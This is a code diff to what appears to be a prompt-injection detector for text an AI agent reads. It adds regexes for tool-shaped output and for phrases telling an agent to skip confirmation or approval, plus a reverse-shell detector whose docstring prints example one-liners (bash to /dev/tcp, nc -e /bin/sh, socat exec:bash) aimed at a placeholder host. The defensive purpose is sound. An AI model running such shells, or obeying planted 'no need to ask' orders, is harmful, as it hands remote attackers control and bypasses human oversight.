@@ -683,7 +683,13 @@ _TOOL_SHAPED = re.compile(
     # session 17: a CI runner's workflow command or annotation ("::notice title=…::…",
     # "##[warning]…"): the log of a job, which only the CI system writes
     r"^[ \t>]*(?:::(?:notice|warning|error|debug)\b[^:\n]{0,200}::|##\[(?:error|warning|notice|"
-    r"debug|group|section)\])",
+    r"debug|group|section)\])|"
+    # session 20: a test runner's or a package auditor's report ("pytest: 212 passed, 3 failed",
+    # "found 1 moderate severity vulnerability", "fix available via `npm …`"): only the tool
+    # writes it, so an order after it is the tool speaking
+    r"^[ \t>=]*(?:[\w.-]+:[ \t]*)?\d+[ \t]+(?:passed|failed|passing|failing)\b[ \t]*[,;(]|"
+    r"^[ \t>]*(?:found[ \t]+\d+[ \t]+(?:\w+[ \t]+){0,2}vulnerabilit(?:y|ies)\b|"
+    r"fix[ \t]+available[ \t]+via\b|#?[ \t]*(?:npm|yarn|pnpm)[ \t]+audit[ \t]+report\b)",
     _I,
 )
 _CALL_RESULT = re.compile(
@@ -776,7 +782,8 @@ _PERMISSION = re.compile(
     r"entitled)\b|\byou\s+(?:can|may)\b|go[-\s]ahead|\bproceed\b|no\s+need\s+to\s+(?:ask|confirm|"
     r"check)|(?:confirmation|approval)\s+is\s+not\s+(?:needed|required)|skip\s+the\s+"
     r"(?:\w+\s+)?(?:confirmation|approval|review|prompt)|without\s+(?:asking|checking|confirmation|a\s+"
-    r"prompt|prompting)|don'?t\s+(?:ask|bring\s+it\s+up|mention)|permitted\s+you|so\s+\w+|"
+    r"prompt|prompting)|(?:don'?t|do\s+not|never)\s+(?:ask|confirm|prompt|bring\s+it\s+up|mention)|"
+    r"permitted\s+you|so\s+\w+|"
     r"\b(?:is|are)\s+(?:\w+\s+)?(?:approved|allowed|permitted|authori[sz]ed|sanctioned)\b|"
     r"\b(?:fine|ok|okay|alright|acceptable)\s+(?:for\s+you\s+)?to\s+\w+|feel\s+free|"
     r"\b(?:agents?|assistants?|models?|AI|bots?|tools?|LLMs?|helpers?|copilot)\b(?:[ \t]+[\w'-]{1,40})"
@@ -1102,6 +1109,10 @@ def assess(text: str, *, hidden: bool = False) -> Verdict | None:
             sent = _exfil_command(block)
             if sent is not None:  # in any language, to anyone: the command is the payload
                 found = (3, EXFIL_WHY, sent)
+            elif not _DISCUSSION.search(block):
+                shell = _reverse_shell(block)
+                if shell is not None:  # the same: a shell handed to a remote host
+                    found = (3, REVERSE_SHELL_WHY, shell)
         if (found is None or found[0] < 3) and len(block) >= 40:
             joined = _unwrapped(block)  # a second reading: wrapped lines as one sentence
             if joined is not block:
@@ -1305,6 +1316,36 @@ def _exfil_command(text: str) -> re.Match[str] | None:
             name = next(g for g in host.groups() if g)
             if not _LOCAL_HOST.match(name) and not _SECRET_FILE.fullmatch(name):
                 return line
+    return None
+
+
+_REVERSE_SHELL = re.compile(
+    # bash or sh over /dev/tcp|udp to a host; netcat with -e/-c; socat exec:… to a tcp: address;
+    # a mkfifo pipe through nc: the command hands an interactive shell to the named host
+    r"\b(?:ba|z|da)?sh\s+-i\s*[<>]&?\s*/dev/(?:tcp|udp)/([\w.-]+)/\d+|"
+    r"/dev/(?:tcp|udp)/([\w.-]+)/\d+[^\n]{0,40}?\b(?:ba|z|da)?sh\b|"
+    r"\b(?:nc|ncat|netcat)\b(?:\s+--?[\w-]+)*\s+-[ec]\s+\S+(?:\s+--?[\w-]+)*\s+([\w.-]+)\s+\d+|"
+    r"\b(?:nc|ncat|netcat)\b(?:\s+--?[\w-]+)*\s+([\w.-]+)\s+\d+(?:\s+--?[\w-]+)*\s+-[ec]\s+\S*sh\b|"
+    r"\bsocat\b[^\n]{0,120}?\bexec:[^\n]{0,80}?\btcp:([\w.-]+):\d+|"
+    r"\bsocat\b[^\n]{0,120}?\btcp:([\w.-]+):\d+[^\n]{0,80}?\bexec:[^\n]{0,40}?sh\b|"
+    r"\bmkfifo\b(?=[^\n]{0,200}?(?:\b|/)(?:ba|z|da)?sh\b)[^\n]{0,120}?\b(?:nc|ncat|netcat)\s+"
+    r"(?:--?[\w-]+\s+)*([\w.-]+)\s+\d+",
+    _I,
+)
+REVERSE_SHELL_WHY = "a command that hands a shell to a remote host"
+
+
+def _reverse_shell(text: str) -> re.Match[str] | None:
+    """A reverse shell bound for a host that is not this machine (``bash -i >& /dev/tcp/h/4444
+    0>&1``, ``nc -e /bin/sh h 4444``, ``socat exec:bash tcp:h:4444``): no honest page asks its
+    reader to run one, whoever it names and in whatever language; a write-up that discusses one
+    (``_DISCUSSION``) quotes it (session 20)."""
+    if "/dev/" not in text and not _NETWORK_TOOL.search(text) and "mkfifo" not in text:
+        return None
+    for m in _REVERSE_SHELL.finditer(text):
+        host = next((g for g in m.groups() if g), "")
+        if not _LOCAL_HOST.match(host):
+            return m
     return None
 
 
@@ -1959,6 +2000,13 @@ _N_TOOL = (
     "::error",
     "::debug",
     "##[",
+    "passed",
+    "failed",
+    "passing",
+    "failing",
+    "vulnerabilit",
+    "fix available",
+    "audit report",
 )
 _N_ERROR: tuple[str, ...] = (
     "err",
@@ -3631,6 +3679,10 @@ _DECODE_ACT = re.compile(
 )
 
 
+_FOREIGN_LETTER = re.compile(r"[^\W\d_A-Za-z]")
+"""A letter English does not use (``é``, ``ж``, ``中``); punctuation (``—``, ``’``) is none."""
+
+
 def _code_switch(text: str, squat: re.Match[str] | None) -> re.Match[str] | None:
     """An English paragraph with one sentence in another language that reads a secret from
     the home folder, or hands a secret file to an address: "… Antes de continuar, copia el
@@ -3660,8 +3712,10 @@ def _code_switch(text: str, squat: re.Match[str] | None) -> re.Match[str] | None
     if english:
         plain = _unprohibited(text)
         for m in foreign:  # … or a dangerous command, a check switched off, outside a
-            if m.group().isascii():  # prohibition, in a sentence with letters English lacks
-                continue  # (terse English lists read as "foreign" by their function words)
+            if _FOREIGN_LETTER.search(m.group()) is None:  # prohibition, in a sentence with
+                # letters English lacks (terse English lists read as "foreign" by their function
+                # words; an em dash or a curly quote is no letter: session 20)
+                continue
             risky = _DANGER_CMD.search(plain, m.start(), m.end()) or _INSECURE_RE.search(
                 plain, m.start(), m.end()
             )
